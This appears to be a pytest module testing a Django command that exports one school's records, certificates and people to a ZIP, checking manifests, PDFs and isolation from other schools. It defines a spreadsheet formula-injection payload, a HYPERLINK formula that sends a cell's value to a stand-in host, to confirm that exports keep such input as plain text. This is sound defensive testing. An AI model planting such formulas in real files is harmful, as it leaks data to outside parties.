"""A school leaving the province takes its own data: `export_school` on a demo school with
records and certificates writes one ZIP whose every XLSX opens (text as text), every PDF opens,
whose manifest is true, and which holds nothing of another school's people.

The demo province is seeded once for the module and rolled back after it."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.test import override_settings
from django.utils import timezone, translation
from openpyxl import load_workbook
from pypdf import PdfReader, PdfWriter

from thuvien.events.models import Registration
from thuvien.organisations.models import Membership, Unit
from thuvien.training import services
from thuvien.training.models import Enrolment, ReportStatus, StudyNote
from thuvien.training.services import TrainingError

PAYLOAD = '=HYPERLINK("http://x.example/?q="&A1,"bấm vào đây")'


@dataclass(frozen=True)
class Export:
    school: Unit
    other: Unit
    zip: zipfile.ZipFile
    attached: bytes  # the uploaded file's content
    out: Path


def _pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _school_with_everything() -> Unit:
    """The first school whose people hold a certificate and have an evaluated record."""
    certified = set(
        Registration.objects.exclude(certificate_code="").values_list("school", flat=True)
    )
    evaluated = set(
        Enrolment.objects.filter(report_status=ReportStatus.EVALUATED).values_list(
            "school", flat=True
        )
    )
    return Unit.objects.filter(pk__in=certified & evaluated).order_by("pk").first()  # type: ignore[return-value]


def _attach_a_note(school: Unit, content: bytes) -> StudyNote:
    """A study note with an uploaded PDF and a formula-like text, in an open record."""
    records = Enrolment.objects.filter(school=school, left_on__isnull=True)
    for record in records.order_by("-campaign__school_year", "pk"):
        try:
            return services.add_study_note(
                record,
                date=timezone.localdate() - dt.timedelta(days=1),
                content=PAYLOAD,
                hours=Decimal("1.5"),
                attachment=SimpleUploadedFile("Ghi chép buổi 1.pdf", content),
            )
        except TrainingError:
            continue
    raise AssertionError(f"No open record at {school}")


@pytest.fixture(scope="module")
def export(
    django_db_setup: None, django_db_blocker: Any, tmp_path_factory: Any
) -> Iterator[Export]:
    media = override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media"))
    out = tmp_path_factory.mktemp("export") / "school.zip"
    with media, django_db_blocker.unblock(), transaction.atomic(), translation.override("en"):
        call_command("seed_demo", schools=8, stdout=io.StringIO())
        school = _school_with_everything()
        other = (
            Unit.objects.schools()
            .exclude(pk=school.pk)
            .filter(pk__in=Enrolment.objects.values("school"))
            .order_by("pk")
            .first()
        )
        assert other is not None
        attached = _pdf()
        _attach_a_note(school, attached)
        call_command("export_school", school.code, str(out), language="en", stdout=io.StringIO())
        with zipfile.ZipFile(out) as archive:
            yield Export(school, other, archive, attached, out)
        transaction.set_rollback(True)


def _workbooks(export: Export) -> dict[str, Any]:
    return {
        name: load_workbook(io.BytesIO(export.zip.read(name)))
        for name in export.zip.namelist()
        if name.endswith(".xlsx")
    }


def _rows(export: Export, name: str, sheet: str) -> list[dict[str, Any]]:
    page = load_workbook(io.BytesIO(export.zip.read(name)))[sheet]
    header, *rows = list(page.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def _all_text(export: Export) -> str:
    """Every piece of text in the ZIP: names, cells, PDF text, the README and manifest."""
    parts = list(export.zip.namelist())
    for name in export.zip.namelist():
        if name.endswith(".xlsx"):
            book = load_workbook(io.BytesIO(export.zip.read(name)))
            parts += [
                str(value)
                for sheet in book.worksheets
                for row in sheet.iter_rows(values_only=True)
                for value in row
                if value is not None
            ]
        elif name.endswith(".pdf"):
            reader = PdfReader(io.BytesIO(export.zip.read(name)))
            parts += [page.extract_text() for page in reader.pages]
        elif name.endswith((".txt", ".json", ".html")):
            parts.append(export.zip.read(name).decode())
    return "\n".join(parts)


def test_the_zip_holds_each_apps_part(export: Export) -> None:
    names = export.zip.namelist()
    for expected in (
        "README.txt",
        "manifest.json",
        "organisation/school.xlsx",
        "organisation/people.xlsx",
        "training/records.xlsx",
        "events/events.xlsx",
    ):
        assert expected in names
    assert any(name.startswith("training/records/") and name.endswith(".pdf") for name in names)
    assert any(name.startswith("events/certificates/") for name in names)
    assert any(name.startswith("training/files/") for name in names)


def test_the_manifest_lists_every_file_with_its_checksum(export: Export) -> None:
    manifest = json.loads(export.zip.read("manifest.json"))
    assert manifest["school"] == {
        "id": export.school.pk,
        "name": export.school.name,
        "code": export.school.code,
    }
    listed = {row["path"]: row for row in manifest["files"]}
    assert set(listed) == set(export.zip.namelist()) - {"README.txt", "manifest.json"}
    for path, row in listed.items():
        content = export.zip.read(path)
        assert (row["size"], row["sha256"]) == (len(content), hashlib.sha256(content).hexdigest())
        assert row["description"]
    readme = export.zip.read("README.txt").decode()
    assert export.school.name in readme
    assert all(path in readme for path in listed)
    assert manifest["missing"] == []


def test_every_workbook_opens_and_holds_no_formula(export: Export) -> None:
    books = _workbooks(export)
    assert len(books) == 4
    for name, book in books.items():
        for sheet in book.worksheets:
            assert sheet.max_row >= 1, (name, sheet.title)
            formulas = [
                c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"
            ]
            assert formulas == [], (name, sheet.title)


def test_every_pdf_opens(export: Export) -> None:
    pdfs = [name for name in export.zip.namelist() if name.endswith(".pdf")]
    assert len(pdfs) >= 3
    for name in pdfs:
        assert len(PdfReader(io.BytesIO(export.zip.read(name))).pages) >= 1, name


def test_the_people_are_the_schools_with_their_roles(export: Export, db: None) -> None:
    rows = _rows(export, "organisation/people.xlsx", "People")
    memberships = Membership.objects.filter(unit=export.school).select_related("user")
    assert sorted((r["Username"], r["Role"]) for r in rows) == sorted(
        (m.user.username, m.get_role_display()) for m in memberships
    )


def test_every_record_of_the_school_is_a_row_and_a_pdf(export: Export, db: None) -> None:
    rows = _rows(export, "training/records.xlsx", "Records")
    records = Enrolment.objects.filter(school=export.school).select_related("user")
    assert sorted(r["Username"] for r in rows) == sorted(e.user.username for e in records)
    assert {r["Record (PDF)"] for r in rows} <= set(export.zip.namelist())
    evaluated = [r for r in rows if r["Status"] == str(ReportStatus.EVALUATED.label)]
    assert evaluated and all(r["Grade"] for r in evaluated)


def test_an_uploaded_attachment_is_kept_and_the_text_stays_text(export: Export) -> None:
    rows = _rows(export, "training/records.xlsx", "Study notes")
    (row,) = [r for r in rows if r["Content"] == PAYLOAD]
    assert row["Attachment"].startswith("training/files/")
    assert row["Attachment"].endswith("ghi-chep-buoi-1.pdf")
    assert export.zip.read(row["Attachment"]) == export.attached


def test_the_schools_certificates_are_there(export: Export, db: None) -> None:
    rows = _rows(export, "events/events.xlsx", "Registrations")
    certified = Registration.objects.filter(school=export.school).exclude(certificate_code="")
    assert certified.exists()
    by_code = {r["Certificate code"]: r for r in rows if r["Certificate code"]}
    assert set(by_code) == set(certified.values_list("certificate_code", flat=True))
    for row in by_code.values():
        reader = PdfReader(io.BytesIO(export.zip.read(row["Certificate (PDF)"])))
        # The code's link may wrap at a "-" in the PDF: compare without line breaks and spaces.
        text = "".join(reader.pages[0].extract_text().split())
        assert row["Certificate code"] in text


def test_nothing_of_another_schools_people_is_in_it(export: Export, db: None) -> None:
    text = _all_text(export)
    ours = set(Membership.objects.filter(unit=export.school).values_list("user", flat=True))
    theirs = Membership.objects.filter(unit=export.other).exclude(user__in=ours)
    theirs = theirs.select_related("user")
    assert theirs.exists()
    our_names = {m.user.display_name for m in Membership.objects.filter(unit=export.school)}
    for membership in theirs:
        assert membership.user.username not in text
        if membership.user.display_name not in our_names:  # two people may share a name
            assert membership.user.display_name not in text
    assert export.other.name not in text


def test_the_school_is_found_by_id_or_code_and_an_ambiguous_key_is_refused(
    export: Export, db: None, tmp_path: Path
) -> None:
    with translation.override("en"):
        with pytest.raises(CommandError, match="No school has"):
            call_command("export_school", "00000000", str(tmp_path / "x.zip"))
        with pytest.raises(CommandError, match="already exists"):
            call_command("export_school", export.school.code, str(export.out))
        Unit.objects.filter(pk=export.other.pk).update(code=str(export.school.pk))
        with pytest.raises(CommandError, match="the id of another"):
            call_command("export_school", str(export.school.pk), str(tmp_path / "y.zip"))
    assert not (tmp_path / "x.zip").exists() and not (tmp_path / "y.zip").exists()
